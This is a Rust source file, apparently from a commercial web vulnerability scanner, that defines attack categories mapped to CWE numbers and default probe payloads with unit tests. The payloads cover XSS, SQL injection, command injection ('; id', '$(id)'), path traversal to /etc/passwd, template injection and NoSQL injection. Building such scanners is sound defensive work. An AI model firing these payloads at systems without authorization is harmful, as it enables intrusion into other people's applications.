// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Payload Sets
 * Categorized attack strings injected into discovered input surfaces
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary - Enterprise Edition
 */
use crate::types::Severity;
use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[serde(rename_all = "snake_case")]
pub enum PayloadCategory {
    Xss,
    Sqli,
    Cmdi,
    PathTraversal,
    Ssti,
    Nosqli,
}

impl std::fmt::Display for PayloadCategory {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            PayloadCategory::Xss => write!(f, "xss"),
            PayloadCategory::Sqli => write!(f, "sqli"),
            PayloadCategory::Cmdi => write!(f, "cmdi"),
            PayloadCategory::PathTraversal => write!(f, "path_traversal"),
            PayloadCategory::Ssti => write!(f, "ssti"),
            PayloadCategory::Nosqli => write!(f, "nosqli"),
        }
    }
}

impl PayloadCategory {
    pub fn cwe(&self) -> &'static str {
        match self {
            PayloadCategory::Xss => "CWE-79",
            PayloadCategory::Sqli => "CWE-89",
            PayloadCategory::Cmdi => "CWE-78",
            PayloadCategory::PathTraversal => "CWE-22",
            PayloadCategory::Ssti => "CWE-1336",
            PayloadCategory::Nosqli => "CWE-943",
        }
    }
}

/// Named, ordered collection of payloads for one category
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub struct PayloadSet {
    pub name: String,
    pub category: PayloadCategory,
    pub severity: Severity,
    pub payloads: Vec<String>,
}

impl PayloadSet {
    pub fn new(name: &str, category: PayloadCategory, severity: Severity, payloads: &[&str]) -> Self {
        Self {
            name: name.to_string(),
            category,
            severity,
            payloads: payloads.iter().map(|p| p.to_string()).collect(),
        }
    }

    /// First `limit` payloads, in declared order
    pub fn take(&self, limit: usize) -> &[String] {
        &self.payloads[..self.payloads.len().min(limit)]
    }
}

/// Built-in sets used when the configuration declares none
pub fn default_payload_sets() -> Vec<PayloadSet> {
    vec![
        PayloadSet::new(
            "xss-basic",
            PayloadCategory::Xss,
            Severity::High,
            &[
                "<script>alert('lonkero')</script>",
                "\"><img src=x onerror=alert('lonkero')>",
                "<svg/onload=alert('lonkero')>",
                "javascript:alert('lonkero')",
                "'-alert('lonkero')-'",
            ],
        ),
        PayloadSet::new(
            "sqli-basic",
            PayloadCategory::Sqli,
            Severity::Critical,
            &[
                "' OR '1'='1",
                "' OR 1=1--",
                "\" OR \"1\"=\"1",
                "1' ORDER BY 100--",
                "'; WAITFOR DELAY '0:0:0'--",
            ],
        ),
        PayloadSet::new(
            "cmdi-basic",
            PayloadCategory::Cmdi,
            Severity::Critical,
            &["; id", "| id", "`id`", "$(id)", "&& whoami"],
        ),
        PayloadSet::new(
            "path-traversal-basic",
            PayloadCategory::PathTraversal,
            Severity::High,
            &[
                "../../../../etc/passwd",
                "..\\..\\..\\..\\windows\\win.ini",
                "....//....//....//etc/passwd",
                "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            ],
        ),
        PayloadSet::new(
            "ssti-basic",
            PayloadCategory::Ssti,
            Severity::High,
            &["{{7*7191}}", "${7*7191}", "<%= 7*7191 %>", "#{7*7191}"],
        ),
        PayloadSet::new(
            "nosqli-basic",
            PayloadCategory::Nosqli,
            Severity::High,
            &["{\"$ne\": null}", "{\"$gt\": \"\"}", "'; return true; var x='"],
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_default_sets_cover_categories() {
        let sets = default_payload_sets();
        assert_eq!(sets.len(), 6);
        assert!(sets.iter().all(|s| !s.payloads.is_empty()));

        let sqli = sets.iter().find(|s| s.category == PayloadCategory::Sqli).unwrap();
        assert_eq!(sqli.payloads[0], "' OR '1'='1");
        assert_eq!(sqli.severity, Severity::Critical);
    }

    #[test]
    fn test_take_is_bounded() {
        let set = PayloadSet::new("x", PayloadCategory::Xss, Severity::High, &["a", "b", "c"]);
        assert_eq!(set.take(2), &["a".to_string(), "b".to_string()]);
        assert_eq!(set.take(10).len(), 3);
    }

    #[test]
    fn test_category_serialization() {
        let json = serde_json::to_string(&PayloadCategory::PathTraversal).unwrap();
        assert_eq!(json, "\"path_traversal\"");
    }
}
